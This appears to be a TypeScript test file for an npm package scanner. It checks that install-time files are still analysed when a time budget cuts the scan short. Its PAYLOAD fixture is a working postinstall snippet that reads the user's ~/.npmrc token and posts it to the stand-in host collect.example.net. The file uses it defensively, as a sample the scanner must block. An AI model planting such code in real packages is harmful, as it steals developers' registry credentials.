/**
 * The package analysis's own time budget (types.ts maxAnalysisMs; docs/analysis-limits.md, "Package analysis: the
 * budget inside"): past it, the read in archive order stops, the files that run first are still read from the rest
 * (install hooks, entry points and what they import: the priority passes), `LIMIT-TIME-001` says what was not read,
 * and the package is never CLEAR or MONITORED for it (CAUTION, or what the files read show).
 *
 * Bulk is put before the install hook's file on purpose: an attacker cannot hide a payload that runs at install
 * behind a package's size. No time is asserted: the budget here (1 ms of CPU) is far below what the bulk costs to
 * read on any machine, so the cut-off happens somewhere in the bulk; where does not matter.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';

const level = (a: ArchiveAnalysis) =>
  packageVerdict(reviewPackage({ registry: 'npm', name: 'bulky', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const opts = (maxAnalysisMs: number) => ({ kind: 'tgz' as const, registry: 'npm' as const, registryHosts: ['registry.example.org'], limits: { maxAnalysisMs } });

/** Ordinary library code (about 16 KB a file): requests, environment reads, callbacks. */
function bulkFile(i: number): string {
  const fns: string[] = [];
  for (let k = 0; k < 40; k++)
    fns.push(
      `function handler${i}_${k}(req, res, next) {\n  const opts = { timeout: Number(process.env.TIMEOUT_${k} || 1000), retries: ${k % 5} };\n  return fetch(new URL('/v1/items/' + encodeURIComponent(req.id), base), { method: 'GET', headers: { accept: 'application/json' } })\n    .then((r) => r.json()).then((body) => { res.items = body.items.map((x) => ({ ...x, seen: Date.now() })); next(); }, next);\n}\nmodule.exports.h${k} = handler${i}_${k};\n`,
    );
  return `'use strict';\nconst base = 'https://api.bulky.example.org';\n${fns.join('')}`;
}

function bulky(files: Record<string, string>, bulk = 300): Buffer {
  const parts: Record<string, string> = {};
  for (let i = 0; i < bulk; i++) parts[`lib/part-${String(i).padStart(3, '0')}.js`] = bulkFile(i);
  return npmTgz({
    'package.json': JSON.stringify({ name: 'bulky', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node zz/install.js' } }),
    ...parts,
    // After the bulk in the archive: read only if the budget leaves room, or by the priority passes.
    ...files,
  });
}

const INDEX = "module.exports = require('./lib/part-000.js');\n";
/** An npm token read and posted to a fixed foreign host at install time. */
const PAYLOAD =
  "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nconst r = https.request({ hostname: 'collect.example.net', path: '/t', method: 'POST' });\nr.write(t);\nr.end();\n";
const HONEST_INSTALL = "console.log('thanks for installing bulky');\n";

test('cut off: LIMIT-TIME-001, and the install-time file behind the bulk is still read (BLOCKED)', async () => {
  const a = await analyzeArchive(bulky({ 'index.js': INDEX, 'zz/install.js': PAYLOAD }), opts(1));
  assert.ok(a.limitsHit.includes('maxAnalysisMs'), `limits: ${a.limitsHit}`);
  assert.is(a.analysisType, 'PARTIAL');
  const cut = a.findings.find((f) => f.ruleId === 'LIMIT-TIME-001');
  assert.ok(cut, 'the cut-off finding');
  assert.is(cut!.severity, 'MEDIUM');
  assert.match(cut!.message, /time budget/);
  assert.match(cut!.message, /not scanned/);
  assert.ok((a.coverage?.tailFilesNotRead ?? 0) > 0, 'some bulk was left unread');
  assert.ok(a.coverage?.entryPoints.includes('package/zz/install.js'), 'the install-time file was read');
  assert.is(a.coverage?.complete, true, 'every file that runs first was read');
  assert.ok(
    a.findings.some((f) => f.file === 'package/zz/install.js' && (f.severity === 'HIGH' || f.severity === 'CRITICAL')),
    `install.js findings: ${a.findings.filter((f) => f.file === 'package/zz/install.js').map((f) => `${f.ruleId}:${f.severity}`)}`,
  );
  assert.is(level(a), 'BLOCKED');
});

test('cut off, honest twin: CAUTION, never CLEAR or MONITORED (what was not read is not clear)', async () => {
  const a = await analyzeArchive(bulky({ 'index.js': INDEX, 'zz/install.js': HONEST_INSTALL }), opts(1));
  assert.ok(a.findings.some((f) => f.ruleId === 'LIMIT-TIME-001'));
  assert.ok(a.coverage?.entryPoints.includes('package/zz/install.js'));
  assert.is(level(a), 'CAUTION');
});

test('cut off in a streamed archive (read once, no priority pass): the rest is not read, CAUTION, and the finding says so', async () => {
  const a = await analyzeArchive(bulky({ 'index.js': INDEX, 'zz/install.js': PAYLOAD }, 200), { ...opts(1), limits: { maxAnalysisMs: 1, maxArchiveBytes: 4096 } });
  assert.ok(a.findings.some((f) => f.ruleId === 'archive_streamed'), 'read streaming');
  const cut = a.findings.find((f) => f.ruleId === 'LIMIT-TIME-001');
  assert.ok(cut);
  assert.match(cut!.message, /streamed archive; the rest of it was not scanned/);
  assert.ok(a.findings.some((f) => f.ruleId === 'entry_point_unread'), 'the install-time file in the unread rest is named');
  assert.is(level(a), 'CAUTION', 'not read is not clear (and not BLOCKED: the payload was not read)');
});

test('no budget (0): the same archive is read whole, no cut-off finding', async () => {
  const honest = await analyzeArchive(bulky({ 'index.js': INDEX, 'zz/install.js': HONEST_INSTALL }, 40), opts(0));
  assert.not.ok(honest.findings.some((f) => f.ruleId === 'LIMIT-TIME-001'));
  assert.not.ok(honest.limitsHit.includes('maxAnalysisMs'));
  assert.is(honest.coverage?.tailFilesNotRead, 0);
  const bad = await analyzeArchive(bulky({ 'index.js': INDEX, 'zz/install.js': PAYLOAD }, 40), opts(0));
  assert.is(level(bad), 'BLOCKED');
});

test.run();
